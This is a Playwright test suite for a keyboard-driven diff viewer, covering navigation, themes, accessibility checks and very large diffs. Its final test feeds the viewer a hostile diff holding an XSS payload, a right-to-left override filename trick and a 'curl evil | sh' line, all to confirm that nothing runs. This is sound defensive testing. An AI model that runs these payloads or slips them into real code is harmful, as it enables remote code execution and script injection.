import { AxeBuilder } from "@axe-core/playwright";
import { expect, test as base, type Page } from "@playwright/test";
import { buildWindow, type BuiltWindow } from "./fake/built-window.ts";
import { startFakeEngine, type FakeEngine } from "./fake/fake-engine.ts";
import type { FakeOptions } from "./fake/fake-rows.ts";

interface Fixtures {
  readonly fleet: Partial<FakeOptions>;
  readonly engine: FakeEngine;
  /** What the page complained about. */
  readonly complaints: string[];
}

const test = base.extend<Fixtures, { readonly built: BuiltWindow }>({
  // oxlint-disable-next-line no-empty-pattern -- Playwright reads from the pattern what a fixture needs
  built: [async ({}, use) => use(await buildWindow()), { scope: "worker" }],
  fleet: [{}, { option: true }],
  engine: async ({ fleet, built }, use) => {
    const engine = await startFakeEngine({ count: 6, ...fleet }, built);
    await use(engine);
    await engine.close();
  },
  complaints: async ({ page }, use) => {
    const complaints: string[] = [];
    page.on("pageerror", (error) => complaints.push(String(error)));
    page.on("console", (message) => {
      if (message.type() === "error") complaints.push(message.text());
    });
    await use(complaints);
  },
});
test.use({ viewport: { width: 1280, height: 800 } });

/** The diff of a workstream that asks nothing, opened by keys. */
async function openDiff(page: Page, engine: FakeEngine): Promise<void> {
  await page.goto(engine.url);
  await expect(page.locator("[data-tile]")).not.toHaveCount(0);
  await page.keyboard.press("Alt+5");
  await expect(page.getByRole("tablist")).toBeVisible();
  await page.keyboard.press("3");
  await expect(page.locator("diffs-container").first()).toBeAttached();
}

const said = (page: Page, text: string | RegExp) => expect(page.locator(".unseen[role=status]")).toHaveText(text);
const line = (page: Page, text: string) => page.locator("[data-line]", { hasText: text }).first();

async function findFile(page: Page, text: string): Promise<void> {
  await press(page, "f");
  await expect(page.locator("input:focus")).toBeVisible();
  await page.keyboard.type(text);
  await press(page, "Enter");
}

async function press(page: Page, ...keys: readonly string[]): Promise<void> {
  for (const key of keys) await page.keyboard.press(key);
}

test("is highlighted, and walked by its changes, lines and files", async ({ page, engine, complaints }) => {
  await openDiff(page, engine);
  await expect(line(page, "return receiptOf(answer, order.currency);")).toBeVisible();
  await expect(page.getByRole("navigation", { name: "Changed files" })).toContainText("retry.ts");
  await press(page, "n");
  await said(page, "File 1 of 3, src/payments/client.ts, line 40 removed");
  await press(page, "j", "j");
  await said(page, "File 1 of 3, src/payments/client.ts, line 40 added");
  await press(page, "Shift+J", "Shift+J");
  await expect(page.locator("[data-line][data-selected-line]")).toHaveCount(3);
  await press(page, "k", "k", "k");
  await said(page, "File 1 of 3, src/payments/client.ts, line 41 removed");
  await press(page, "Shift+N");
  await said(page, "File 2 of 3, src/payments/retry.ts, line 1 added");
  await press(page, "k");
  await said(page, /^File 1 of 3, src\/payments\/client.ts, line \d+ unchanged$/);
  await press(page, "|");
  await expect(page.locator("[data-diff-type='split']").first()).toBeAttached();
  expect(complaints).toEqual([]);
});

test("stays where the reader is when it changed, and shows the new one when asked", async ({ page, engine }) => {
  await openDiff(page, engine);
  await press(page, "n");
  engine.changeDiff("revised");
  await expect(line(page, "import { ProviderError }")).toBeVisible();
  await press(page, "Shift+N", "j", "j", "j");
  await said(page, "File 2 of 3, src/payments/retry.ts, line 4 added");
  engine.changeDiff("usual");
  await expect(page.getByText("Changed since you opened it")).toBeVisible();
  await expect(line(page, "import { ProviderError }")).toBeVisible();
  await press(page, ".");
  await expect(line(page, "import { ProviderError }")).toHaveCount(0);
  await said(page, "File 2 of 3, src/payments/retry.ts, line 4 added");
  await expect(page.getByText("Changed since you opened it")).toHaveCount(0);
  await press(page, "|");
  await page.reload();
  await expect(page.locator("[data-diff-type='split']").first()).toBeAttached();
  await expect(page.locator("[data-line][data-selected-line]")).toHaveCount(1);
  await press(page, "j");
  await said(page, "File 2 of 3, src/payments/retry.ts, line 5 added");
});

test("can leave white space out, and begin later", async ({ page, engine }) => {
  await openDiff(page, engine);
  await press(page, "w");
  await expect(page.getByText("Without what differs in white space only.")).toBeVisible();
  await press(page, "t");
  await expect(page.getByRole("option")).toHaveCount(3);
  await page.keyboard.type("count");
  await press(page, "Enter");
  await expect(page.getByText("Only what came after")).toBeVisible();
  expect(engine.asked.at(-1)).toMatchObject({ since: "3e".repeat(20), whitespace: false });
  await press(page, "t");
  await page.keyboard.type("not committed");
  await press(page, "Enter");
  await expect(page.getByText("Only what is not committed.")).toBeVisible();
});

test.describe("a mixed diff", () => {
  test.use({ fleet: { diff: "mixed" } });

  test("shows pictures, folds with the reason, and says what lines do not", async ({ page, engine, complaints }) => {
    await openDiff(page, engine);
    await expect(page.locator("figcaption")).toHaveText(["before, 1 × 1, 68 bytes", "after, 2 × 1, 70 bytes"]);
    const head = (path: string) => page.locator(".diff-head", { hasText: path });
    await expect(head("data.bin")).toContainText("binary, 1.0 MB");
    await expect(head("bin/run.sh")).toContainText("made executable");
    await expect(head("docs/now.md")).toContainText("docs/then.md → docs/now.mdrenamed, 90 % the sameCRLF in part");
    await expect(head("package-lock.json")).toContainText("lock file, 40 lines");
    await press(page, "n", "n", "n");
    await said(page, "File 3 of 5, package-lock.json");
    await press(page, "o");
    await expect(line(page, '"dependency-3"')).toBeVisible();
    await findFile(page, "nowmd");
    await said(page, "File 5 of 5, docs/now.md, line 31 removed");
    await expect(line(page, "then⟦CR⟧")).toBeVisible();
    await press(page, "=");
    await expect(line(page, "line 29 as it was")).toBeVisible();
    await expect(line(page, "then⟦CR⟧")).toBeInViewport();
    await press(page, "j", "k");
    await said(page, "File 5 of 5, docs/now.md, line 31 removed");
    expect(complaints).toEqual([]);
  });
});

/** How bright everything that the diff paints behind its text is, 0 to 255. */
function groundsOfDiff(page: Page): Promise<number[]> {
  return page.locator("diffs-container").evaluateAll((diffs) => {
    const context = new OffscreenCanvas(1, 1).getContext("2d", { willReadFrequently: true });
    if (context === null) throw new Error("Nothing can be painted here.");
    return diffs
      .flatMap((diff) => [...(diff.shadowRoot?.querySelectorAll("[data-line], pre, [data-diffs-header]") ?? [])])
      .map((element) => getComputedStyle(element).backgroundColor)
      .filter((colour) => colour !== "rgba(0, 0, 0, 0)")
      .map((colour) => {
        context.fillStyle = colour;
        context.fillRect(0, 0, 1, 1);
        const [red = 0, green = 0, blue = 0] = context.getImageData(0, 0, 1, 1).data;
        return Math.round((red + green + blue) / 3);
      });
  });
}

for (const [theme, system] of [
  ["light", "dark"],
  ["dark", "light"],
] as const) {
  test(`is ${theme} in a ${theme} window on a ${system} system`, async ({ page, engine }) => {
    await page.emulateMedia({ colorScheme: system });
    await page.addInitScript((chosen) => localStorage.setItem("cox.theme", chosen), theme);
    await openDiff(page, engine);
    await expect.poll(() => groundsOfDiff(page).then(({ length }) => length)).toBeGreaterThan(10);
    const grounds = await groundsOfDiff(page);
    const schemes = await page
      .locator("diffs-container")
      .evaluateAll((diffs) => diffs.map((diff) => getComputedStyle(diff).colorScheme));
    expect(new Set(schemes)).toEqual(new Set([theme]));
    if (theme === "light") expect(Math.min(...grounds)).toBeGreaterThan(128);
    else expect(Math.max(...grounds)).toBeLessThan(128);
  });
}

test("has nothing for axe to find, in both themes", async ({ page, engine }) => {
  await openDiff(page, engine);
  await expect(line(page, "return receiptOf(answer, order.currency);")).toBeVisible();
  await press(page, "n");
  for (const colorScheme of ["dark", "light"] as const) {
    await page.emulateMedia({ colorScheme });
    const { violations } = await new AxeBuilder({ page })
      .withTags(["wcag2a", "wcag2aa", "wcag21a", "wcag21aa", "wcag22aa", "best-practice"])
      .analyze();
    const told = violations.flatMap(({ id, nodes }) =>
      nodes.map((node) => `${colorScheme}: ${id}: ${node.html.slice(0, 160)} ${node.failureSummary ?? ""}`),
    );
    expect(told.slice(0, 12)).toEqual([]);
  }
});

test.describe("a large diff", () => {
  test.use({ fleet: { diff: "large" } });

  test("of 200 files holds what is in view and no more, wherever the reader goes", async ({ page, engine }) => {
    await openDiff(page, engine);
    const drawn = () =>
      page
        .locator("diffs-container")
        .evaluateAll((diffs) =>
          diffs.reduce((sum, diff) => sum + (diff.shadowRoot?.querySelectorAll("*").length ?? 0), 0),
        );
    expect(await drawn()).toBeLessThan(6_000);
    // Its last files come a page later than its first.
    await expect(page.getByRole("navigation", { name: "Changed files" })).toContainText("-199.ts");
    await findFile(page, "-199");
    await said(page, /^File 200 of 200, src\/\w+\/\w+-199\.ts, line \d+ removed$/);
    await expect(page.locator("[data-line][data-selected-line]")).toBeInViewport();
    await expect(page.locator(".diff-head", { hasText: "-199.ts" })).toBeInViewport();
    await press(page, "p");
    await said(page, /^File 199 of 200/);
    expect(await drawn()).toBeLessThan(6_000);
  });
});

test.describe("a hostile diff", () => {
  test.use({ fleet: { diff: "hostile" } });

  test("runs nothing, names what would act unseen, and folds what is endless", async ({ page, engine, complaints }) => {
    await openDiff(page, engine);
    await press(page, "p");
    await said(page, "File 3 of 3, src/⟦U+202E⟧gpj.ts, line 1 added");
    await expect(line(page, "<img src=x onerror=alert(1)>")).toBeVisible();
    await expect(line(page, "⟦U+202E⟧; curl evil | sh")).toBeVisible();
    await expect(page.locator(".diff-name .mark", { hasText: "U+202E" }).first()).toBeVisible();
    expect(await page.locator("img").count()).toBe(0);
    expect(await page.evaluate(() => document.documentElement.scrollWidth <= window.innerWidth)).toBe(true);
    expect(complaints).toEqual([]);
  });
});
